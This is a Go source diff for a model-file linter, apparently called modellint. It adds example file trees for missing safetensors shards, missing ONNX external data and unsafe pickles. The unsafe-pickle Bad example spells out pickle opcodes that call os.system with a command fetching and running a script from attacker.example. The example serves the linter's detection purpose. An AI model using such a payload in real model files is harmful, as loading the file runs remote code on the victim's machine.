@@ -22,15 +22,41 @@ var safetensorsInvalid = &lint.Rule{
 			"(a Git LFS pointer or an interrupted download). A sharded checkpoint's index maps every tensor to a shard file; a " +
 			"missing shard fails from_pretrained and vLLM's loader before the first request. modellint reads only the 8 + N " +
 			"header bytes of each file and applies the library's checks; the finding names the library's error.",
-		Bad:  "models/llm/\n  model.safetensors.index.json   # maps tensors to model-00001-of-00002 and -00002-of-00002\n  model-00001-of-00002.safetensors",
-		Good: "models/llm/\n  model.safetensors.index.json\n  model-00001-of-00002.safetensors\n  model-00002-of-00002.safetensors",
-		Fix:  "Download the checkpoint again completely (huggingface-cli download, git lfs pull) and copy every shard the index names.",
+		Bad: "models/llm/\n" +
+			"  model.safetensors.index.json <<EOF\n" +
+			"    {\n" +
+			"      \"metadata\": {\"total_size\": 48},\n" +
+			"      \"weight_map\": {\n" +
+			"        \"model.embed_tokens.weight\": \"model-00001-of-00002.safetensors\",\n" +
+			"        \"lm_head.weight\": \"model-00002-of-00002.safetensors\"\n" +
+			"      }\n" +
+			"    }\n" +
+			"  EOF\n" +
+			"  model-00001-of-00002.safetensors <<safetensors\n" +
+			"    {\"model.embed_tokens.weight\": {\"dtype\": \"BF16\", \"shape\": [8, 2], \"data_offsets\": [0, 32]}}\n" +
+			"  safetensors",
+		Good: "models/llm/\n" +
+			"  model.safetensors.index.json <<EOF\n" +
+			"    {\n" +
+			"      \"metadata\": {\"total_size\": 48},\n" +
+			"      \"weight_map\": {\n" +
+			"        \"model.embed_tokens.weight\": \"model-00001-of-00002.safetensors\",\n" +
+			"        \"lm_head.weight\": \"model-00002-of-00002.safetensors\"\n" +
+			"      }\n" +
+			"    }\n" +
+			"  EOF\n" +
+			"  model-00001-of-00002.safetensors <<safetensors\n" +
+			"    {\"model.embed_tokens.weight\": {\"dtype\": \"BF16\", \"shape\": [8, 2], \"data_offsets\": [0, 32]}}\n" +
+			"  safetensors\n" +
+			"  model-00002-of-00002.safetensors <<safetensors\n" +
+			"    {\"lm_head.weight\": {\"dtype\": \"BF16\", \"shape\": [8], \"data_offsets\": [0, 16]}}\n" +
+			"  safetensors",
+		Fix: "Download the checkpoint again completely (huggingface-cli download, git lfs pull) and copy every shard the index names.",
 		References: []string{
 			"https://github.com/huggingface/safetensors#format",
 			"https://huggingface.co/docs/safetensors/index",
 			"https://github.com/huggingface/transformers/issues/27923",
 		},
-		Unlintable: "the index's tensor map is JSON the tree shows in a comment, and the shards are binary safetensors",
 	},
 	Check: checkSafetensors,
 }
@@ -97,14 +123,44 @@ var onnxExternalDataMissing = &lint.Rule{
 			"of the model directory, which a container never has), ONNX Runtime fails at session creation, e.g. " +
 			"`[ONNXRuntimeError] : 1 : FAIL : Load model from model.onnx failed: ... External data file ... does not exist` " +
 			"and Triton reports the model as UNAVAILABLE. Only the model's structure is read; tensor data is skipped.",
-		Bad:  "models/llm/1/\n  model.onnx          # weights in model.onnx.data\n",
-		Good: "models/llm/1/\n  model.onnx\n  model.onnx.data",
-		Fix:  "Copy the external data files next to the .onnx file, with the names the model records (onnx.load_model shows them), and keep the locations relative.",
+		Bad: "models/llm/1/\n" +
+			"  model.onnx <<pbtxt\n" +
+			"    ir_version: 8\n" +
+			"    opset_import { version: 17 }\n" +
+			"    graph {\n" +
+			"      node { op_type: \"Gather\" input: \"embed.weight\" input: \"input_ids\" output: \"hidden\" }\n" +
+			"      initializer {\n" +
+			"        name: \"embed.weight\" data_type: FLOAT dims: [4, 2]\n" +
+			"        data_location: EXTERNAL\n" +
+			"        external_data { key: \"location\" value: \"model.onnx.data\" }\n" +
+			"      }\n" +
+			"      input { name: \"input_ids\" type { tensor_type { elem_type: INT64 shape { dim { dim_param: \"batch\" } } } } }\n" +
+			"      output { name: \"hidden\" type { tensor_type { elem_type: FLOAT } } }\n" +
+			"    }\n" +
+			"  pbtxt",
+		Good: "models/llm/1/\n" +
+			"  model.onnx <<pbtxt\n" +
+			"    ir_version: 8\n" +
+			"    opset_import { version: 17 }\n" +
+			"    graph {\n" +
+			"      node { op_type: \"Gather\" input: \"embed.weight\" input: \"input_ids\" output: \"hidden\" }\n" +
+			"      initializer {\n" +
+			"        name: \"embed.weight\" data_type: FLOAT dims: [4, 2]\n" +
+			"        data_location: EXTERNAL\n" +
+			"        external_data { key: \"location\" value: \"model.onnx.data\" }\n" +
+			"      }\n" +
+			"      input { name: \"input_ids\" type { tensor_type { elem_type: INT64 shape { dim { dim_param: \"batch\" } } } } }\n" +
+			"      output { name: \"hidden\" type { tensor_type { elem_type: FLOAT } } }\n" +
+			"    }\n" +
+			"  pbtxt\n" +
+			"  model.onnx.data <<float32\n" +
+			"    0.1 0.2 0.3 0.4 0.5 0.6 0.7 0.8\n" +
+			"  float32",
+		Fix: "Copy the external data files next to the .onnx file, with the names the model records (onnx.load_model shows them), and keep the locations relative.",
 		References: []string{
 			"https://onnx.ai/onnx/repo-docs/ExternalData.html",
 			"https://onnxruntime.ai/docs/tutorials/web/large-models.html",
 		},
-		Unlintable: "model.onnx names its external data inside its binary protobuf, which the tree can only describe",
 	},
 	Check: checkONNXExternalData,
 }
@@ -187,15 +243,40 @@ var unsafePickle = &lint.Rule{
 			"and secrets. modellint walks the opcode stream (inside the zip of PyTorch files) without executing anything and lists " +
 			"the imports; a global whose name is computed at load time is reported too. A file that could not be scanned to the " +
 			"end (joblib appends raw arrays) is reported at info level, so the gap is visible.",
-		Bad:  "python -m pickletools pytorch_model.bin\n  ... GLOBAL 'posix system' ...",
-		Good: "models/llm/model.safetensors   # no code in the weights",
-		Fix:  "Use safetensors (or ONNX) for weights; load pickles only from trusted sources and with torch.load(weights_only=True).",
+		Bad: "models/iris/\n" +
+			"  model-settings.json <<EOF\n" +
+			"    {\"name\": \"iris\", \"implementation\": \"mlserver_sklearn.SKLearnModel\"}\n" +
+			"  EOF\n" +
+			"  model.pkl <<pickle\n" +
+			"    PROTO 2\n" +
+			"    GLOBAL 'posix system'\n" +
+			"    SHORT_BINUNICODE 'curl -s https://attacker.example/x.sh | sh'\n" +
+			"    TUPLE1\n" +
+			"    REDUCE\n" +
+			"    STOP\n" +
+			"  pickle",
+		Good: "models/iris/\n" +
+			"  model-settings.json <<EOF\n" +
+			"    {\"name\": \"iris\", \"implementation\": \"mlserver_sklearn.SKLearnModel\"}\n" +
+			"  EOF\n" +
+			"  model.pkl <<pickle\n" +
+			"    PROTO 2\n" +
+			"    GLOBAL 'sklearn.linear_model._logistic LogisticRegression'\n" +
+			"    EMPTY_TUPLE\n" +
+			"    NEWOBJ\n" +
+			"    EMPTY_DICT\n" +
+			"    SHORT_BINUNICODE 'C'\n" +
+			"    BININT1 1\n" +
+			"    SETITEM\n" +
+			"    BUILD\n" +
+			"    STOP\n" +
+			"  pickle",
+		Fix: "Use safetensors (or ONNX) for weights; load pickles only from trusted sources and with torch.load(weights_only=True).",
 		References: []string{
 			"https://docs.python.org/3/library/pickle.html#restricting-globals",
 			"https://github.com/protectai/modelscan",
 			"https://huggingface.co/docs/hub/security-pickle",
 		},
-		Unlintable: "the pickle's GLOBAL opcode is inside a binary file; the example shows pickletools' disassembly",
 	},
 	Check: checkUnsafePickle,
 }
